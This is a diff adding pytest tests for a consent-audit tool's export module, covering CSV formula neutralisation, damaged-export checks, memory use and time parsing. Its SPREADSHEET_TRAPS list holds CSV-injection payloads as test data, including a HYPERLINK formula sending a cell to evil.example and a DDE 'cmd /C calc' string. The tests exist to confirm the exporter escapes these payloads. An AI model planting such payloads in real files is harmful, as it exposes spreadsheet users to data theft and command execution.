@@ -3,17 +3,25 @@ notices shown; a row-level check that needs nothing but the files."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import hashlib
 import io
 import json
+import tracemalloc
+from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from consentgate.audit.chain import Sealer
 from consentgate.audit.export import (
+    CSV_BOM,
     EXPORT_COLUMNS,
+    _csv_cell,
+    _from_csv_cell,
     consent_stats,
     export_chunks,
     export_file,
@@ -21,6 +29,7 @@ from consentgate.audit.export import (
     utc_iso,
     verify_export,
 )
+from consentgate.audit.stores import open_store
 from consentgate.audit.stores.base import Query, Store
 
 from .conftest import KEY, make_event
@@ -54,7 +63,8 @@ async def test_one_consent_ids_export_has_exactly_its_events_in_order(
     manifest = await export_file(store, target, fmt, Query(consent_id="alice"))  # type: ignore[arg-type]
     content = target.read_bytes()
     if fmt == "csv":
-        rows = list(csv.DictReader(io.StringIO(content.decode())))
+        assert content.startswith(CSV_BOM.encode())  # a CSV file is for spreadsheets: UTF-8 BOM
+        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
         assert list(rows[0]) == list(EXPORT_COLUMNS)
     elif fmt == "jsonl":
         rows = [json.loads(line) for line in content.decode().splitlines()]
@@ -96,7 +106,7 @@ async def test_spreadsheet_formulas_are_neutralised_and_still_verify(store: Stor
     await store.write(Sealer(KEY).seal([make_event(1, consent_id="-12", ui_action='=HYPERLINK("x")')]))
     target = tmp_path / "x.csv"
     await export_file(store, target, "csv", Query())
-    [row] = list(csv.DictReader(io.StringIO(target.read_text())))
+    [row] = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"))))
     assert row["ui_action"] == '\'=HYPERLINK("x")' and row["consent_id"] == "'-12"
     assert verify_export(target, KEY).ok
 
@@ -154,3 +164,175 @@ def test_times_are_read_as_utc() -> None:
     assert parse_when("1738281600000") == 1_738_281_600_000
     with pytest.raises(ValueError, match="is not a time"):
         parse_when("last tuesday")
+
+
+# --- opened in a spreadsheet --------------------------------------------------------------------
+
+# What a visitor controls ends up in cells: the page path, the region header behind a
+# misconfigured proxy, CSP report fields. Each of these would run as a formula somewhere.
+SPREADSHEET_TRAPS = [
+    ' =HYPERLINK("http://evil.example/?"&A1)',  # importers that trim cells (LibreOffice, Sheets)
+    "\u3000+1+1",  # ideographic space
+    "\ufeff@SUM(1)",  # a byte order mark in the middle of a file is invisible
+    "\u200b-2+3",  # zero-width space
+    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
+    "\n=1+1",
+]
+
+
+@pytest.mark.parametrize("trap", SPREADSHEET_TRAPS)
+async def test_formula_signs_behind_blanks_or_in_full_width_are_neutralised(
+    store: Store, tmp_path: Path, trap: str
+) -> None:
+    event = make_event(1, region=trap, path="/" + trap, detail={"blocked_host": trap})
+    await store.write(Sealer(KEY).seal([event]))
+    target = tmp_path / "x.csv"
+    await export_file(store, target, "csv", Query())
+    [row] = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"), newline="")))
+    assert row["region"] == "'" + trap and row["path"] == "/" + trap
+    assert verify_export(target, KEY).ok
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=12))
+def test_every_cell_reads_back_exactly_and_never_starts_a_formula(text: str) -> None:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\r\n").writerow([_csv_cell(text), _csv_cell(text + "x")])
+    cell, _ = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert _from_csv_cell("region", cell) == text
+    # After whatever blanks an importer trims, the cell starts with its quote mark or with
+    # something that is not a formula sign.
+    visible = cell.lstrip().lstrip("\ufeff\u200b\u200c\u200d\u2060").lstrip()
+    assert cell.startswith("'") or not visible.startswith(tuple("=+-@\t\r\x00\uff1d\uff0b\uff0d\uff20"))
+
+
+async def test_a_csv_file_starts_with_a_bom_and_a_stream_does_not(store: Store, tmp_path: Path) -> None:
+    await store.write(Sealer(KEY).seal([make_event(1, path="/über-uns", locale="de")]))
+    target, plain = tmp_path / "proof.csv", tmp_path / "plain.csv"
+    await export_file(store, target, "csv", Query())
+    await export_file(store, plain, "csv", Query(), bom=False)
+    assert target.read_bytes().startswith(b"\xef\xbb\xbfevent_id,")
+    assert plain.read_bytes().startswith(b"event_id,")
+    streamed = b"".join([chunk async for chunk in export_chunks(store, Query(), "csv")])
+    assert streamed == plain.read_bytes()
+    assert verify_export(target, KEY).ok and verify_export(plain, KEY).ok
+    assert "/über-uns" in target.read_text("utf-8-sig")
+
+
+async def test_a_cell_longer_than_the_csv_modules_default_limit_verifies(
+    store: Store, tmp_path: Path
+) -> None:
+    # csv.reader refuses fields over 128 KiB by default; the exporter writes them.
+    await store.write(Sealer(KEY).seal([make_event(1, detail={"note": "x" * 200_000})]))
+    target = tmp_path / "long.csv"
+    await export_file(store, target, "csv", Query())
+    assert verify_export(target, KEY).ok
+
+
+# --- an export that is damaged is a finding, never a crash --------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("fmt", "damage"),
+    [
+        ("csv", b""),
+        ("jsonl", b""),
+        ("json", b""),
+        ("json", b'[\n{"event_id":"a",'),
+        ("jsonl", b'{"event_id": "a"}\n[1, 2]\n'),
+        ("csv", b"\xff\xfe not UTF-8"),
+        ("jsonl", b'{"event_id": "\xff"}\n'),
+    ],
+)
+async def test_a_damaged_export_fails_with_a_reason(
+    store: Store, tmp_path: Path, fmt: str, damage: bytes
+) -> None:
+    await _fill(store)
+    target = tmp_path / f"all.{fmt}"
+    await export_file(store, target, fmt, Query())  # type: ignore[arg-type]
+    target.write_bytes(damage)
+    check = verify_export(target, KEY)
+    assert not check.ok and not check.unverified
+    assert any("SHA-256 differs" in problem for problem in check.problems)
+    assert any("the manifest says 60" in p or "not a " + fmt + " export" in p for p in check.problems)
+
+
+async def test_rows_beyond_twenty_mismatches_are_counted(store: Store, tmp_path: Path) -> None:
+    await _fill(store)
+    target = tmp_path / "all.jsonl"
+    await export_file(store, target, "jsonl", Query())
+    rows = [json.loads(line) for line in target.read_text().splitlines()]
+    for row in rows[:30]:
+        row["region"] = "US"
+    target.write_text("".join(json.dumps(row) + "\n" for row in rows))
+    problems = verify_export(target, KEY).problems
+    assert sum("does not match its hash" in p for p in problems) == 20
+    assert problems[-1] == "… and 10 more rows that do not match their hash"
+
+
+def test_checking_a_large_export_takes_constant_memory(tmp_path: Path) -> None:
+    async def write() -> Path:
+        store = open_store(f"sqlite:///{tmp_path}/audit.db")
+        await store.open()
+        try:
+            sealer = Sealer(KEY)
+            for start in range(0, 20_000, 4000):
+                await store.write(sealer.seal(make_event(i) for i in range(start, start + 4000)))
+            target = tmp_path / "all.jsonl"
+            await export_file(store, target, "jsonl", Query())
+            return target
+        finally:
+            await store.close()
+
+    target = asyncio.run(write())
+    assert target.stat().st_size > 10_000_000
+    tracemalloc.start()
+    try:
+        check = verify_export(target, KEY)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert check.ok and check.rows == 20_000
+    assert peak < 2_000_000, f"verify_export peaked at {peak} bytes for a {target.stat().st_size} byte file"
+
+
+# --- times ---------------------------------------------------------------------------------------
+
+
+@settings(max_examples=2000, deadline=None)
+@given(st.integers(min_value=0, max_value=4_102_444_800_000))
+def test_a_printed_time_reads_back_to_the_same_millisecond(ms: int) -> None:
+    # ts_utc in exports and first_utc/last_utc in manifests are pasted back into --since/--until.
+    assert parse_when(utc_iso(ms)) == ms
+    offset = datetime.fromtimestamp(ms / 1000, UTC).astimezone(timezone(timedelta(hours=-7, minutes=-30)))
+    assert parse_when(offset.isoformat(timespec="milliseconds")) in (ms, ms - 1)  # (float above)
+
+
+def test_known_times_that_floats_put_a_millisecond_early() -> None:
+    for text, ms in [
+        ("1978-08-16T21:08:59.877Z", 272_149_739_877),
+        ("2038-12-31T08:23:14.252Z", 2_177_396_594_252),
+        ("2038-12-31T09:53:14.252+01:30", 2_177_396_594_252),
+    ]:
+        assert parse_when(text) == ms
+
+
+def test_epoch_seconds_are_refused_not_read_as_1970() -> None:
+    with pytest.raises(ValueError, match=r"looks like epoch seconds.*1738281600000"):
+        parse_when("1738281600")
+    assert parse_when("20250131") == parse_when("2025-01-31")  # ISO basic format, not a number
+
+
+async def test_a_time_no_calendar_holds_does_not_stop_the_export_of_the_others(
+    store: Store, tmp_path: Path
+) -> None:
+    # A stored ts is any integer: a buggy caller's, or one an insider edited to block exports.
+    events = [make_event(1), make_event(2, ts=10**15), make_event(3, ts=-(10**14))]
+    await store.write(Sealer(KEY).seal(events))
+    target = tmp_path / "all.csv"
+    manifest = await export_file(store, target, "csv", Query())
+    assert manifest["rows"] == 3 and verify_export(target, KEY).ok
+    rows = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"), newline="")))
+    assert [row["ts_utc"] for row in rows] == ["", "2025-10-09T08:53:20.001Z", ""]
+    days = [row.day for row in await consent_stats(store, Query())]
+    assert days == ["2025-10-09", "invalid"]
